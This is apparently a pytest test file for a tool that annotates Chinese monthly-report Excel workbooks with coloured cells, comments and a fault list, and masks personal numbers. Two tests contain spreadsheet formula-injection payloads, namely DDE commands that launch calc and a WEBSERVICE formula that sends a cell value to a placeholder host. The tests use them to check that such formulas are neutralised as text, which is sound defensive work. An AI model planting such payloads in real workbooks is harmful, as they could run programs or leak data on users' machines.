"""The marked workbook: the clerk's own layout, coloured, commented, with a list in front; opened again with openpyxl."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from huizong.feedback.marked_copy.faultlist import plain_number
from huizong.feedback.marked_copy.marking import NotMarkableError, is_workbook, mark
from huizong.feedback.marked_copy.unsaved_parts import losses
from huizong.model import Severity
from tests.database.feedback.county import monthly_report
from tests.unit.feedback.marked_copy.marked import AT, BLUE, HEAD, ORANGE, RED, YELLOW, colour, entry, list_rows, marked

# A number with a right check digit and a birthday, belonging to nobody.
IDENTITY = "110101190001010014"


def test_cells_are_coloured_by_severity_and_commented() -> None:
    found = (
        entry("1", Severity.CRITICAL, "6月!C6", "“XX”只是占位", observed="XX"),
        entry("2", Severity.BLOCKING, "6月!F5", "同比不对", observed="4.2", expected="4.18", difference="0.02"),
        entry("3", Severity.QUERY, "6月!C7", "差得较多", observed="300"),
        entry("4", Severity.INFO, "6月!C4", "四舍五入"),
    )
    workbook = marked(monthly_report(), found)
    sheet = workbook["6月"]
    assert [colour(sheet, cell) for cell in ("C6", "F5", "C7", "C4", "C5")] == [RED, ORANGE, YELLOW, BLUE, None]
    comment = sheet["F5"].comment
    assert comment is not None and comment.author == "汇总"
    assert comment.text.split("\n") == [
        "〔汇总〕须改正（第2条）", "问题：同比不对", "表上填的：4.2", "应为：4.18", "相差：0.02", "怎么办：请改",
    ]  # fmt: skip
    assert "说明：写在《差错清单》的「说明」栏" in (sheet["C7"].comment.text if sheet["C7"].comment else "")
    assert sheet["C5"].comment is None


def test_layout_and_values_stay() -> None:
    before = load_workbook(io.BytesIO(monthly_report()))["6月"]
    workbook = marked(monthly_report(), (entry("1", Severity.CRITICAL, "6月!C6"),))
    after = workbook["6月"]
    assert workbook.sheetnames == ["差错清单", "6月", "封面"]
    assert [[cell.value for cell in row] for row in after.iter_rows()] == [[cell.value for cell in row] for row in before.iter_rows()]
    assert after["F4"].data_type == "f" and after["F4"].value == "=ROUND(D4/E4*100-100,1)"
    assert after["C4"].data_type == "n"
    assert after["A8"].data_type == "s" and after["A8"].value == "=HYPERLINK(1)"
    assert {str(merged) for merged in after.merged_cells.ranges} == {"A1:F1", "D4:D5"}
    assert after.column_dimensions["A"].width == 26


def test_the_list_links_to_the_cells_and_asks_for_reasons() -> None:
    found = (
        entry("1", Severity.CRITICAL, "6月!D4:D5", "合并了", observed="68932.7"),
        entry("2", Severity.QUERY, "6月!C7", "差得较多", observed="1,300.50", expected="约900"),
        entry("3", Severity.CRITICAL, "", "缺报"),
    )
    workbook = marked(monthly_report(), found)
    sheet = workbook["差错清单"]
    assert workbook.active is sheet
    rows = list_rows(workbook)
    assert [row[:3] for row in rows] == [["1", "须改正", "「6月」D4:D5"], ["2", "待说明", "「6月」C7"], ["3", "须改正", "整份文件"]]
    assert rows[0][5] == 68932.7 and rows[1][5] == 1300.5 and rows[1][6] == "约900"
    assert [row[9] for row in rows] == [None, None, None]
    links = [sheet.cell(row, 3).hyperlink for row in (6, 7, 8)]
    assert [link.location if link else None for link in links] == ["'6月'!D4", "'6月'!C7", None]
    assert [colour(sheet, cell) for cell in ("J6", "J7", "J8")] == ["FFF3F4F6", YELLOW, "FFF3F4F6"]
    assert sheet["A3"].value == HEAD.until


def test_a_merged_range_is_marked_whole_and_commented_once() -> None:
    sheet = marked(monthly_report(), (entry("1", Severity.CRITICAL, "6月!D5"),))["6月"]
    # D5 lies in D4:D5, of which only D4 can be seen.
    assert colour(sheet, "D4") == RED
    assert sheet["D4"].comment is not None


def test_several_faults_of_a_cell_take_the_gravest_colour() -> None:
    found = (entry("2", Severity.QUERY, "6月!C6", "乙"), entry("1", Severity.CRITICAL, "6月!C6", "甲"))
    sheet = marked(monthly_report(), found)["6月"]
    assert colour(sheet, "C6") == RED
    text = sheet["C6"].comment.text if sheet["C6"].comment else ""
    assert "问题：甲" in text and "问题：乙" in text


def test_texts_never_act_as_formulas() -> None:
    found = (
        entry("1", Severity.CRITICAL, "6月!C6", '=HYPERLINK("http://x")', observed="=cmd|' /C calc'!A0", expected="+1+1", remedy="@SUM(1)"),
    )
    workbook = marked(monthly_report(), found)
    sheet = workbook["差错清单"]
    for column, value in ((5, '=HYPERLINK("http://x")'), (6, "=cmd|' /C calc'!A0"), (7, "+1+1"), (9, "@SUM(1)")):
        cell = sheet.cell(6, column)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


def test_what_we_wrote_carries_our_property_and_is_reproducible() -> None:
    found = (entry("1", Severity.CRITICAL, "6月!C6"),)
    report = monthly_report()  # it carries the second in which it was made
    first, *_ = mark(report, HEAD, found, frozenset(), "A1", AT)
    again, *_ = mark(report, HEAD, found, frozenset(), "A1", AT)
    workbook = load_workbook(io.BytesIO(first))
    assert {item.name: item.value for item in workbook.custom_doc_props.props} == {"huizong": "A1"}  # type: ignore[attr-defined]
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(2026, 7, 5, 9, 12, 30)}
        assert b"2026-07-05T01:12:30Z</dcterms:modified>" in archive.read("docProps/core.xml")
    assert first == again


def test_a_marked_file_that_comes_back_is_marked_afresh() -> None:
    source = load_workbook(io.BytesIO(monthly_report()))
    source["6月"]["C6"].comment = Comment("张三：待核", "张三")
    written = io.BytesIO()
    source.save(written)
    first, *_ = mark(
        written.getvalue(), HEAD, (entry("1", Severity.CRITICAL, "6月!C6"), entry("2", Severity.QUERY, "6月!C7")), frozenset(), "A1", AT
    )
    text = load_workbook(io.BytesIO(first))["6月"]["C6"].comment.text
    assert text.startswith("张三：待核\n\n〔汇总〕须改正（第1条）")
    second, *_ = mark(first, HEAD, (entry("1", Severity.QUERY, "6月!C7"),), frozenset(), "A2", AT)
    workbook = load_workbook(io.BytesIO(second))
    sheet = workbook["6月"]
    assert workbook.sheetnames == ["差错清单", "6月", "封面"]
    # C6 was green before anybody marked it, C7 had no colour.
    assert [colour(sheet, cell) for cell in ("C6", "C7")] == ["FF92D050", YELLOW]
    assert sheet["C6"].comment is not None and sheet["C6"].comment.text == "张三：待核"
    assert len(list_rows(workbook)) == 1
    assert [item.value for item in workbook.custom_doc_props.props] == ["A2"]  # type: ignore[attr-defined]


def test_personal_numbers_are_masked_and_figures_are_not() -> None:
    source = load_workbook(io.BytesIO(monthly_report()))
    sheet = source["6月"]
    sheet["A9"], sheet["B9"], sheet["C9"] = IDENTITY, 13812345678, 13912345678
    sheet["A9"].comment = Comment(f"本人{IDENTITY}", "张三")
    written = io.BytesIO()
    source.save(written)
    content, masked, _ = mark(written.getvalue(), HEAD, (entry("1", Severity.CRITICAL, "6月!C6"),), frozenset({"6月!C9"}), "A1", AT)
    assert masked
    after = load_workbook(io.BytesIO(content))["6月"]
    assert [after[cell].value for cell in ("A9", "B9", "C9")] == ["110101********0014", "138****5678", 13912345678]
    assert after["A9"].comment is not None and after["A9"].comment.text == "本人110101********0014"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if IDENTITY.encode() in archive.read(name)]


def test_a_stray_cell_in_the_last_corner_costs_nothing() -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "6月"
    sheet["A1"], sheet["XFD1048576"] = "税收收入", 5
    written = io.BytesIO()
    book.save(written)
    content, *_ = mark(written.getvalue(), HEAD, [entry("1", Severity.CRITICAL, "6月!A1")], frozenset(), "mark", AT)
    back = load_workbook(io.BytesIO(content))["6月"]
    assert (back["A1"].value, back["XFD1048576"].value) == ("税收收入", 5)
    assert colour(back, "A1") == RED
    assert len(content) < 20_000  # seventeen thousand million cells lie between the two


def test_places_named_together_are_all_marked() -> None:
    workbook = marked(monthly_report(), (entry("1", Severity.BLOCKING, "6月!D6, 6月!C6"),))
    sheet = workbook["6月"]
    assert [colour(sheet, cell) for cell in ("D6", "C6")] == [ORANGE, ORANGE]
    assert sheet["D6"].comment is not None and sheet["C6"].comment is None
    link = workbook["差错清单"]["C6"].hyperlink
    assert link is not None and link.location == "'6月'!D6"


def test_unknown_places_are_listed_without_a_link() -> None:
    found = tuple(
        entry(str(number), Severity.CRITICAL, place) for number, place in enumerate(("没有这张表!A1", "6月!不是格", "3:2", "6月!A:A"), 1)
    )
    workbook = marked(monthly_report(), found)
    assert len(list_rows(workbook)) == 4
    assert [workbook["差错清单"].cell(row, 3).hyperlink for row in range(6, 10)] == [None] * 4


def test_what_cannot_be_opened_says_why() -> None:
    broken = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(monthly_report())) as source, zipfile.ZipFile(broken, "w") as target:
        for name in source.namelist():
            target.writestr(name, b"<nonsense" if name == "xl/styles.xml" else source.read(name))
    assert is_workbook(broken.getvalue())
    with pytest.raises(NotMarkableError, match="工作簿的结构不规范"):
        mark(broken.getvalue(), HEAD, (), frozenset(), "A1", AT)
    large = io.BytesIO()
    with zipfile.ZipFile(large, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("xl/workbook.xml", b"")
        target.writestr("xl/worksheets/sheet1.xml", b" " * (12 * 1024 * 1024 + 1))
    with pytest.raises(NotMarkableError, match="工作簿太大"):
        mark(large.getvalue(), HEAD, (), frozenset(), "A1", AT)
    assert not is_workbook(b"PK\x03\x04 torn") and not is_workbook(b"")


def test_losses_are_named() -> None:
    data = io.BytesIO(monthly_report())
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr("xl/ctrlProps/ctrlProp1.xml", b"<x/>")
        archive.writestr("xl/drawings/drawing1.xml", b'<xdr:wsDr><xdr:sp macro=""/></xdr:wsDr>')
        archive.writestr("xl/vbaProject.bin", b"")
        archive.writestr("xl/worksheets/sheet9.xml", b"<x14:sparklineGroups xmlns=''/>")
    assert losses(monthly_report()) == ()
    assert losses(data.getvalue()) == ("窗体控件", "形状和文本框", "宏", "迷你图")
    assert losses(data.getvalue(), keeps_macros=True) == ("窗体控件", "形状和文本框", "迷你图")


@pytest.mark.parametrize(
    ("text", "number"),
    [("68,932.70", "68932.70"), ("-3", "-3"), ("9.1%", None), ("约3", None), ("", None), ("1E+400", None), ("NaN", None), ("1" * 16, None)],
)
def test_plain_number(text: str, number: str | None) -> None:
    found = plain_number(text)
    assert (str(found) if found is not None else None) == number


def test_merged_ranges_that_overlap_are_marked_at_the_cell_that_shows() -> None:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "6月"
    sheet["A1"], sheet["B2"] = "指标", 7
    written = io.BytesIO()
    workbook.save(written)
    overlapping = _with_sheet(
        written.getvalue(), b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C3"/></mergeCells>'
    )
    shown = marked(overlapping, (entry("1", Severity.CRITICAL, "6月!C3"),))
    # C3 is hidden by B2:C3, whose own first cell is hidden by A1:B2.
    assert colour(shown["6月"], "A1") == RED


def _with_sheet(data: bytes, old: bytes, new: bytes) -> bytes:
    """The workbook with something replaced in its first sheet's XML."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(written, "w") as target:
        for part in source.namelist():
            content = source.read(part)
            target.writestr(part, content.replace(old, new) if part == "xl/worksheets/sheet1.xml" else content)
    return written.getvalue()


def test_a_place_beyond_the_last_column_is_listed_without_a_link() -> None:
    workbook = marked(monthly_report(), (entry("1", Severity.CRITICAL, "6月!ZZZZZZ1"), entry("2", Severity.CRITICAL, "6月!ZZZ9999999")))
    assert [workbook["差错清单"].cell(row, 3).hyperlink for row in (6, 7)] == [None, None]


def test_a_formula_that_starts_a_program_comes_back_as_text_and_no_other() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    workbook.create_sheet("一|二")
    formulas = {
        "A1": "=cmd|'/C calc'!A0",
        "A2": "=SUM(B1:B2)",
        "A3": '=IF(B1>0,"有|无","")',
        "A4": "='一|二'!A1",
        "A5": '=1+MSEXCEL|"\\a\\b"!C1',
        "A6": '=_xlfn.WEBSERVICE("http://a.example/"&B1)',
        "A7": '=IF(B1>0,"WEBSERVICE(","")',
        "A8": '=HYPERLINK("#Sheet!A1","看")',
    }
    for place, formula in formulas.items():
        sheet[place] = formula
    written = io.BytesIO()
    workbook.save(written)
    content, _, stopped = mark(written.getvalue(), HEAD, (), frozenset(), "A1", AT)
    assert stopped
    back = load_workbook(io.BytesIO(content))["Sheet"]
    assert {place: (back[place].data_type, back[place].value) for place in formulas} == {
        "A1": ("s", "=cmd|'/C calc'!A0"),
        "A2": ("f", "=SUM(B1:B2)"),
        "A3": ("f", '=IF(B1>0,"有|无","")'),
        "A4": ("f", "='一|二'!A1"),
        "A5": ("s", '=1+MSEXCEL|"\\a\\b"!C1'),
        "A6": ("s", '=_xlfn.WEBSERVICE("http://a.example/"&B1)'),
        "A7": ("f", '=IF(B1>0,"WEBSERVICE(","")'),
        "A8": ("f", '=HYPERLINK("#Sheet!A1","看")'),
    }
    assert back["A1"].quotePrefix
